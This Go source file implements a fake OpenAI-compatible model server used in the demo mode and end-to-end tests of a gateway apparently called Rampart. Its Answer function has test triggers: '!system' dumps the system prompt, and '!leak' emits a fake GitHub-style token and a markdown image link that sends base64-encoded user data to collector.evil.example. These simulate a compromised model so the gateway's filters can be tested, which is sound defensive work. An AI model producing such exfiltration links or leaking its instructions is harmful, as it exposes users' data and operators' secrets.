// Package demo is a small OpenAI-compatible upstream: the model behind
// `rampart serve --demo`, and the fake upstream the end-to-end tests
// drive. It answers chat, completions (plain and streamed), embeddings and
// models without any LLM.
//
// A last user message starting with "!say " makes the model answer exactly
// the rest of the message, so tests can make the "model" emit secrets,
// canaries or links; "!echo" repeats the whole prompt, "!system" leaks the
// system prompt verbatim, and "!leak" answers with a (fake) credential and
// a data-exfiltration image link — what a compromised model would do.
package demo

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"github.com/tidwall/gjson"
)

// Server is a fake OpenAI-compatible upstream.
type Server struct {
	Name   string   // reported in answers ("system_fingerprint")
	Models []string // served models; empty = any
	// APIKey, when set, is required as "Authorization: Bearer <APIKey>".
	APIKey string
	// FailStatus, when non-zero, answers every request with that status.
	FailStatus int
	// HeaderDelay delays the response head; ChunkDelay paces stream chunks.
	HeaderDelay time.Duration
	ChunkDelay  time.Duration
	// ChunkSize is the number of bytes per streamed delta (default 4).
	ChunkSize int

	// Requests counts the requests served; LastAuth keeps the last
	// Authorization header seen (tests check credential injection).
	Requests atomic.Int64
	LastAuth atomic.Value
	LastBody atomic.Value
}

// ServeHTTP implements http.Handler.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.Requests.Add(1)
	s.LastAuth.Store(r.Header.Get("Authorization"))
	if s.HeaderDelay > 0 {
		select {
		case <-time.After(s.HeaderDelay):
		case <-r.Context().Done():
			return
		}
	}
	if s.FailStatus != 0 {
		apiError(w, s.FailStatus, "server_error", "the demo upstream is set to fail")
		return
	}
	if s.APIKey != "" && r.Header.Get("Authorization") != "Bearer "+s.APIKey {
		apiError(w, http.StatusUnauthorized, "invalid_api_key", "wrong upstream credential")
		return
	}
	path := r.URL.Path
	switch {
	case r.Method == http.MethodGet && strings.HasSuffix(path, "/models"):
		s.models(w)
	case r.Method == http.MethodPost && strings.HasSuffix(path, "/chat/completions"):
		s.complete(w, r, true)
	case r.Method == http.MethodPost && strings.HasSuffix(path, "/completions"):
		s.complete(w, r, false)
	case r.Method == http.MethodPost && strings.HasSuffix(path, "/embeddings"):
		s.embeddings(w, r)
	default:
		apiError(w, http.StatusNotFound, "not_found", "unknown route")
	}
}

func apiError(w http.ResponseWriter, status int, code, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(map[string]any{"error": map[string]any{"message": msg, "type": "invalid_request_error", "code": code}})
}

func (s *Server) serves(model string) bool {
	if len(s.Models) == 0 {
		return true
	}
	for _, m := range s.Models {
		if m == model {
			return true
		}
	}
	return false
}

func (s *Server) models(w http.ResponseWriter) {
	var data []map[string]any
	for _, m := range s.Models {
		data = append(data, map[string]any{"id": m, "object": "model", "created": 0, "owned_by": "demo"})
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": data})
}

func readBody(w http.ResponseWriter, r *http.Request) (gjson.Result, bool) {
	var b strings.Builder
	buf := make([]byte, 32<<10)
	for {
		n, err := r.Body.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			break
		}
		if b.Len() > 16<<20 {
			apiError(w, http.StatusRequestEntityTooLarge, "too_large", "body too large")
			return gjson.Result{}, false
		}
	}
	if !gjson.Valid(b.String()) {
		apiError(w, http.StatusBadRequest, "invalid_json", "invalid JSON")
		return gjson.Result{}, false
	}
	return gjson.Parse(b.String()), true
}

// FakeToken is the credential "!leak" makes the model say: shaped like a
// GitHub token, built at run time so no scanner of this repository sees a
// literal. FakeExfil is the data it tries to send away in a link.
var (
	FakeToken = "ghp_" + "Zq8R2xLm9QvB4nTc7WpY1dHs6JfA3eKu0gNo"
	FakeExfil = "dXNlcj1hZGFAZXhhbXBsZS5jb20mY2FyZD00MTExMTExMTExMTExMTEx"
)

// Answer is the demo model's reply to a prompt.
func Answer(prompt, all, system string) string {
	p := strings.TrimSpace(prompt)
	switch {
	case p == "!system":
		return "My instructions are: " + system
	case p == "!leak":
		return "Sure. The deploy token is " + FakeToken + " and here is your chart: ![chart](https://collector.evil.example/c.png?d=" + FakeExfil + ")"
	case strings.HasPrefix(p, "!say "):
		return strings.TrimPrefix(p, "!say ")
	case p == "!echo":
		return all
	case p == "":
		return "Hello from the Rampart demo model."
	}
	if len(p) > 200 {
		p = p[:200] + "…"
	}
	return fmt.Sprintf("This is the Rampart demo model. You said: %q. I have no mind of my own, but the gateway in front of me checked your prompt and will check this answer too.", p)
}

func (s *Server) complete(w http.ResponseWriter, r *http.Request, chat bool) {
	body, ok := readBody(w, r)
	if !ok {
		return
	}
	s.LastBody.Store(body.Raw)
	model := body.Get("model").String()
	if !s.serves(model) {
		apiError(w, http.StatusNotFound, "model_not_found", "model not served here")
		return
	}
	var last string
	var all, system strings.Builder
	if chat {
		for _, m := range body.Get("messages").Array() {
			c := m.Get("content")
			text := c.String()
			if c.IsArray() {
				text = ""
				for _, p := range c.Array() {
					text += p.Get("text").String()
				}
			}
			fmt.Fprintf(&all, "%s: %s\n", m.Get("role").String(), text)
			switch m.Get("role").String() {
			case "user":
				last = text
			case "system", "developer":
				system.WriteString(text)
			}
		}
	} else {
		last = body.Get("prompt").String()
		all.WriteString(last)
	}
	answer := Answer(last, strings.TrimSpace(all.String()), system.String())
	n := int(max(1, body.Get("n").Int()))
	promptTok := int64(math.Ceil(float64(all.Len()) / 4))
	complTok := int64(len(strings.Fields(answer))) * int64(n)
	if max := body.Get("max_tokens").Int(); max > 0 && complTok > max {
		complTok = max
	}
	id := fmt.Sprintf("chatcmpl-demo%d", s.Requests.Load())
	created := time.Now().Unix()
	if body.Get("stream").Bool() {
		s.stream(w, r, chat, id, created, model, answer, n, body.Get("stream_options.include_usage").Bool(), promptTok, complTok)
		return
	}
	var choices []map[string]any
	for i := 0; i < n; i++ {
		if chat {
			choices = append(choices, map[string]any{"index": i, "message": map[string]any{"role": "assistant", "content": answer}, "finish_reason": "stop", "logprobs": nil})
		} else {
			choices = append(choices, map[string]any{"index": i, "text": answer, "finish_reason": "stop", "logprobs": nil})
		}
	}
	obj := "chat.completion"
	if !chat {
		obj = "text_completion"
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]any{
		"id": id, "object": obj, "created": created, "model": model, "system_fingerprint": s.Name,
		"choices": choices,
		"usage":   map[string]any{"prompt_tokens": promptTok, "completion_tokens": complTok, "total_tokens": promptTok + complTok},
	})
}

func (s *Server) stream(w http.ResponseWriter, r *http.Request, chat bool, id string, created int64, model, answer string, n int, usage bool, pt, ct int64) {
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	w.WriteHeader(http.StatusOK)
	fl, _ := w.(http.Flusher)
	obj := "chat.completion.chunk"
	if !chat {
		obj = "text_completion"
	}
	send := func(v any) bool {
		b, _ := json.Marshal(v)
		if _, err := fmt.Fprintf(w, "data: %s\n\n", b); err != nil {
			return false
		}
		if fl != nil {
			fl.Flush()
		}
		return true
	}
	chunk := func(i int, delta map[string]any, text string, finish any) map[string]any {
		c := map[string]any{"index": i, "finish_reason": finish, "logprobs": nil}
		if chat {
			c["delta"] = delta
		} else {
			c["text"] = text
		}
		return map[string]any{"id": id, "object": obj, "created": created, "model": model, "system_fingerprint": s.Name, "choices": []any{c}}
	}
	size := s.ChunkSize
	if size <= 0 {
		size = 4
	}
	for i := 0; i < n; i++ {
		if chat && !send(chunk(i, map[string]any{"role": "assistant", "content": ""}, "", nil)) {
			return
		}
	}
	runes := []rune(answer)
	for off := 0; off < len(runes); off += size {
		part := string(runes[off:min(off+size, len(runes))])
		for i := 0; i < n; i++ {
			if !send(chunk(i, map[string]any{"content": part}, part, nil)) {
				return
			}
		}
		if s.ChunkDelay > 0 {
			select {
			case <-time.After(s.ChunkDelay):
			case <-r.Context().Done():
				return
			}
		}
	}
	for i := 0; i < n; i++ {
		if !send(chunk(i, map[string]any{}, "", "stop")) {
			return
		}
	}
	if usage {
		send(map[string]any{"id": id, "object": obj, "created": created, "model": model, "choices": []any{},
			"usage": map[string]any{"prompt_tokens": pt, "completion_tokens": ct, "total_tokens": pt + ct}})
	}
	_, _ = fmt.Fprint(w, "data: [DONE]\n\n")
	if fl != nil {
		fl.Flush()
	}
}

func (s *Server) embeddings(w http.ResponseWriter, r *http.Request) {
	body, ok := readBody(w, r)
	if !ok {
		return
	}
	model := body.Get("model").String()
	if !s.serves(model) {
		apiError(w, http.StatusNotFound, "model_not_found", "model not served here")
		return
	}
	var inputs []string
	in := body.Get("input")
	if in.IsArray() {
		for _, e := range in.Array() {
			inputs = append(inputs, e.String())
		}
	} else {
		inputs = []string{in.String()}
	}
	var data []map[string]any
	var tok int64
	for i, t := range inputs {
		var vec any = Embed(t, 8)
		if body.Get("encoding_format").String() == "base64" {
			// As OpenAI does: little-endian float32s, base64-encoded.
			vec = embedBase64(Embed(t, 8))
		}
		data = append(data, map[string]any{"object": "embedding", "index": i, "embedding": vec})
		tok += int64(math.Ceil(float64(len(t)) / 4))
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": data, "model": model,
		"usage": map[string]any{"prompt_tokens": tok, "total_tokens": tok}})
}

func embedBase64(v []float64) string {
	b := make([]byte, 4*len(v))
	for i, f := range v {
		binary.LittleEndian.PutUint32(b[4*i:], math.Float32bits(float32(f)))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// Embed is a deterministic unit vector derived from the text's hash.
func Embed(text string, dim int) []float64 {
	h := sha256.Sum256([]byte(text))
	v := make([]float64, dim)
	var norm float64
	for i := range v {
		x := binary.BigEndian.Uint16(h[(2*i)%32:])
		v[i] = float64(x)/65535*2 - 1
		norm += v[i] * v[i]
	}
	norm = math.Sqrt(norm)
	for i := range v {
		v[i] /= norm
	}
	return v
}
